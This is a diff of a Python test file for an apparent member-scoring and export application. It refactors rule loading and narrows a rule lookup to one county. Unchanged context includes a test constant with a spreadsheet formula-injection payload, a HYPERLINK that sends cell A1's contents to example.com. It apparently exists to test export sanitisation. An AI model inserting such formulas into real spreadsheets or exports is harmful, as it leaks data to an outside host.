@@ -20,6 +20,7 @@ from members.models import Branch, Member
 from members.permissions import system_user
 from scoring import services as scoring
 from scoring.models import RuleItem
+from tests.rules_helpers import load_default_rules
 
 from .conftest import make_member
 
@@ -69,7 +70,9 @@ EVIL_REASON = '=HYPERLINK("http://example.com/?x="&A1,"点击")'
 
 
 def item(code, year=YEAR):
-    return RuleItem.objects.get(code=code, branch__isnull=True, rule_set__year=year)
+    return RuleItem.objects.get(
+        code=code, branch__isnull=True, rule_set__year=year, rule_set__county__name="岚县"
+    )
 
 
 def close_months(branch, months, *, year=YEAR, by=None):
@@ -122,7 +125,7 @@ def add_members(branch, count, prefix="党员"):
 
 @pytest.fixture
 def rules_2026(county):
-    return scoring.ruleset_load_defaults(year=YEAR, by=system_user())
+    return load_default_rules(year=YEAR)
 
 
 @pytest.fixture
@@ -484,7 +487,7 @@ def test_the_township_and_county_exports_make_a_fixed_number_of_queries(
 
 def test_the_annual_export_adds_appraisal_total_and_grade(county):
     """2025, assessed from January to the members' meeting in January 2026."""
-    scoring.ruleset_load_defaults(year=2025, by=system_user())
+    load_default_rules(year=2025)
     branch = Branch.objects.create(township=county.dongcun, name="南河村", position=3)
     start = datetime.date(2025, 1, 1)
     good = make_member(branch, "郭美兰", category="A", on_roll_from=start, gender="F")
